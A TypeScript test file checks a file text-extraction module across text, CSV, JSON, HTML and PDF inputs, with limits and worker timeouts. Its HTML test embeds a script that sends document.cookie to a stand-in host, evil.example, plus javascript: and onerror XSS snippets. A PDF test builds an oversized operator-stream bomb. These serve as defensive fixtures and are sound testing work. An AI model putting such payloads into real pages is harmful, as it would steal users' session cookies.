import { afterAll, describe, expect, it } from "vitest";
import { extractText } from "../../src/files/extract/extract-text.js";
import { TextExtractor } from "../../src/files/extract/text-extractor.js";
import { ExtractionError, extractionKind, type ExtractLimits } from "../../src/files/extract/types.js";
import { fillerPages, writePdf } from "../support/pdf-writer.js";

const limits: ExtractLimits = { maxChars: 100_000, maxPages: 50, maxDepth: 16 };
const utf8 = (s: string) => new TextEncoder().encode(s);
const textOf = async (kind: Parameters<typeof extractText>[0], input: string | Uint8Array, l = limits) => {
  const r = await extractText(kind, typeof input === "string" ? utf8(input) : input, l);
  return { ...r, text: r.sections.map((s) => s.text).join("\n\n") };
};

describe("extractionKind", () => {
  it("maps the text-like content types and nothing else", () => {
    expect(extractionKind("text/plain; charset=utf-8")).toBe("text");
    expect(extractionKind("text/markdown")).toBe("markdown");
    expect(extractionKind("text/csv")).toBe("csv");
    expect(extractionKind("application/json")).toBe("json");
    expect(extractionKind("TEXT/HTML")).toBe("html");
    expect(extractionKind("application/pdf")).toBe("pdf");
    expect(extractionKind("image/png")).toBeNull();
    expect(extractionKind("application/octet-stream")).toBeNull();
  });
});

describe("plain text and Markdown", () => {
  it("decodes UTF-8, UTF-16 with a BOM, and falls back to Windows-1252 for invalid UTF-8", async () => {
    expect((await textOf("text", "naïve café\r\nsecond line")).text).toBe("naïve café\nsecond line");
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("über 16", "utf16le")]);
    expect((await textOf("text", le)).text).toBe("über 16");
    expect((await textOf("text", Buffer.from([0x63, 0x61, 0x66, 0xe9]))).text).toBe("café");
  });

  it("drops control and bidi-override characters, keeps tabs and newlines", async () => {
    const r = await textOf("markdown", "# Title\u0000\u0007\n\nreal\u202etext\there\u001b[31m");
    expect(r.text).toBe("# Title\n\nrealtext\there[31m");
  });

  it("stops at maxChars and says so", async () => {
    const r = await textOf("text", "x".repeat(5_000), { ...limits, maxChars: 1_000 });
    expect(r.chars).toBe(1_000);
    expect(r.truncated).toBe(true);
  });

  it("gives no section for an empty or blank file", async () => {
    expect((await textOf("text", " \n\t\n")).sections).toEqual([]);
  });
});

describe("CSV", () => {
  it("names each value by its column, handles quotes, embedded delimiters and newlines", async () => {
    const csv = 'name,city,note\r\nAda,Oslo,"likes ""tea"", mostly"\nBo,"New\nYork",\n\n';
    expect((await textOf("csv", csv)).text).toBe('name: Ada; city: Oslo; note: likes "tea", mostly\nname: Bo; city: New York');
  });

  it("detects semicolon and tab delimiters", async () => {
    expect((await textOf("csv", "a;b\n1;2\n")).text).toBe("a: 1; b: 2");
    expect((await textOf("csv", "a\tb\n1\t2\n")).text).toBe("a: 1; b: 2");
  });

  it("survives a quote left open to the end and rows wider than the header", async () => {
    expect((await textOf("csv", 'a,b\n1,"never closed\n2,3')).text).toBe("a: 1; b: never closed 2,3");
    expect((await textOf("csv", "a\n1,2,3")).text).toBe("a: 1; column 2: 2; column 3: 3");
  });
});

describe("JSON", () => {
  it("writes one line per leaf, named by its path", async () => {
    const r = await textOf("json", JSON.stringify({ order: { id: 7, items: [{ sku: "XK-42", qty: 2 }], note: null }, ok: true }));
    expect(r.text).toBe("order.id: 7\norder.items[0].sku: XK-42\norder.items[0].qty: 2\norder.note: null\nok: true");
  });

  it("summarises values nested deeper than maxDepth", async () => {
    const r = await textOf("json", `${"[".repeat(5_000)}"deep"${"]".repeat(5_000)}`);
    expect(r.text).toMatch(/^(\[0\]){16}: \(1 items nested deeper than 16 levels\)$/);
  });

  it("stays bounded on nesting too deep to parse (a million levels)", async () => {
    const r = await textOf("json", "[".repeat(1_000_000) + "]".repeat(1_000_000), { ...limits, maxChars: 1_000 });
    expect(r.chars).toBeLessThanOrEqual(1_000);
    expect(r.truncated).toBe(true);
  });

  it("reads invalid JSON as text", async () => {
    expect((await textOf("json", "{not json: the code is 1234")).text).toBe("{not json: the code is 1234");
  });
});

describe("HTML", () => {
  it("keeps the text and title, drops scripts, styles and markup, decodes entities", async () => {
    const html = `<!doctype html><html><head><title>Report &amp; plan</title><style>body{color:red}</style>
      <script>fetch("https://evil.example/?"+document.cookie)</script></head>
      <body><h1>Budget</h1><p>Total: <b>42&nbsp;kEUR</b> &lt;approved&gt;</p><!-- secret comment -->
      <table><tr><td>a</td><td>b</td></tr></table><noscript>enable js</noscript><a href="javascript:alert(1)">link</a>
      <svg><text>svg text</text></svg><img src=x onerror="alert(2)"></body></html>`;
    const r = await textOf("html", html);
    expect(r.text).toContain("Report & plan");
    expect(r.text).toContain("Budget");
    expect(r.text).toContain("Total: 42 kEUR <approved>");
    expect(r.text).toContain("a\tb");
    expect(r.text).toContain("link");
    for (const gone of ["fetch", "cookie", "color:red", "secret comment", "enable js", "javascript:", "alert", "svg text", "onerror", "<"]) {
      if (gone === "<") expect(r.text.replace("<approved>", "")).not.toContain("<");
      else expect(r.text).not.toContain(gone);
    }
  });

  it("drops everything after an unclosed script, and an encoded script stays text", async () => {
    expect((await textOf("html", "<p>before</p><script>var x = '</p><p>hidden'")).text).toBe("before");
    expect((await textOf("html", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")).text).toBe("<script>alert(1)</script>");
  });

  it("is bounded by maxChars on a huge page", async () => {
    const r = await textOf("html", "<div>word </div>".repeat(200_000), { ...limits, maxChars: 10_000 });
    expect(r.truncated).toBe(true);
    expect(r.chars).toBeLessThanOrEqual(10_000);
  });
});

describe("PDF (in this thread)", () => {
  it("reads each page's lines as its own section", async () => {
    const pdf = writePdf([["Quarterly report (draft)", "Revenue rose 12% in March."], ["Page two: the vault code is 7781."]]);
    const r = await extractText("pdf", pdf, limits);
    expect(r.pageCount).toBe(2);
    expect(r.sections).toEqual([
      { page: 1, text: "Quarterly report (draft)\nRevenue rose 12% in March." },
      { page: 2, text: "Page two: the vault code is 7781." },
    ]);
  });

  it("reads uncompressed streams too, and stops at maxPages", async () => {
    const r = await extractText("pdf", writePdf(fillerPages(5, 3), { compress: false }), { ...limits, maxPages: 2 });
    expect(r.sections.map((s) => s.page)).toEqual([1, 2]);
    expect(r.pageCount).toBe(5);
    expect(r.truncated).toBe(true);
  });

  it("refuses what is not a PDF", async () => {
    await expect(extractText("pdf", utf8("%PDF-1.7\nthis is not a pdf at all"), limits)).rejects.toThrow(/not a readable PDF/);
    await expect(extractText("pdf", new Uint8Array(0), limits)).rejects.toThrow(/not a readable PDF/);
  });

  it("skips a page whose content stream is garbage and reads the others", async () => {
    const pdf = writePdf([["first page"], ["second"], ["third page"]], { rawContent: (i) => (i === 1 ? Buffer.from("BT ((((( [[[ << /X ] Tj ET garbage \u0000\u00ff") : undefined) });
    const r = await extractText("pdf", pdf, limits);
    expect(r.sections.find((s) => s.page === 1)?.text).toBe("first page");
    expect(r.sections.find((s) => s.page === 3)?.text).toBe("third page");
  });
});

describe("TextExtractor (worker thread)", () => {
  const extractor = new TextExtractor({ workers: 1, timeoutMs: 60_000, maxHeapMb: 256, limits });
  afterAll(() => extractor.close());

  it("extracts in a worker and serves files one after another", async () => {
    const [a, b] = await Promise.all([
      extractor.extract("pdf", writePdf([["the answer is forty-two"]])),
      extractor.extract("html", utf8("<p>hello <script>x</script>world</p>")),
    ]);
    expect(a.sections).toEqual([{ page: 1, text: "the answer is forty-two" }]);
    expect(b.sections).toEqual([{ page: null, text: "hello world" }]);
  });

  it("reports an unreadable file as ExtractionError 'unreadable' and keeps working", async () => {
    const err = await extractor.extract("pdf", utf8("not a pdf")).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ExtractionError);
    expect((err as ExtractionError).reason).toBe("unreadable");
    expect((await extractor.extract("text", utf8("still here"))).chars).toBe(10);
  });

  it("terminates a worker stuck on a hostile PDF (a compressed stream of millions of operators) at the timeout", async () => {
    // 8 million path operators: about 50 MB of content, a few hundred kB compressed.
    const ops = Buffer.from("0 0 m 1 1 l ".repeat(4_000_000), "latin1");
    const bomb = writePdf([["x"], ["y"]], { rawContent: () => ops });
    const quick = new TextExtractor({ workers: 1, timeoutMs: 300, maxHeapMb: 256, limits });
    try {
      const err = await quick.extract("pdf", bomb).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(ExtractionError);
      expect((err as ExtractionError).reason).toBe("timeout");
    } finally {
      await quick.close();
    }
  });

  it("refuses work after close", async () => {
    const x = new TextExtractor({ timeoutMs: 1_000, maxHeapMb: 64, limits });
    await x.close();
    await expect(x.extract("text", utf8("a"))).rejects.toBeInstanceOf(ExtractionError);
  });
});
